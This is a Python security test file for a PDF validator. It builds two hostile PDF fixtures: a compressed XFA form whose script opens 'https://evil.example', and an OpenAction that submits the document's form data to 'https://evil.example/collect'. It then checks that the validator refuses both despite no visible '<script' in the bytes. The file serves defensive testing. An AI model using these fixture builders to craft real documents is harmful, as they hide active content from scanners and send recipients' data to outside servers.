"""Security review: PDFs whose active content hides from the raw-bytes markup check."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from documents import validation as v

XFA = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
       b'<script contentType="application/x-javascript">app.launchURL("https://evil.example")</script>'
       b"</event></subform></template></xdp:xdp>")


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_compressed_xfa_script() -> bytes:
    """An XFA form (Acrobat runs its scripts): the XML is Flate-compressed, so no `<script` in the bytes."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    stream = DecodedStreamObject()
    stream.set_data(XFA)
    stream = stream.flate_encode()
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(),
                             NameObject("/XFA"): writer._add_object(stream)})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _write(writer)


def pdf_opening_with_a_form_submission() -> bytes:
    """An OpenAction that posts the document's form data to a server of the sender's choice."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    action = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                               NameObject("/F"): TextStringObject("https://evil.example/collect")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


@pytest.mark.parametrize("make", [pdf_with_compressed_xfa_script, pdf_opening_with_a_form_submission])
def test_a_pdf_with_hidden_active_content_is_refused(make):
    data = make()
    assert data.startswith(b"%PDF-") and b"<script" not in data.lower()
    with pytest.raises(v._Refused) as caught:
        v.check_content(data, max_pixels=4_000_000)
    assert "scripts, launch actions or attached files" in caught.value.message

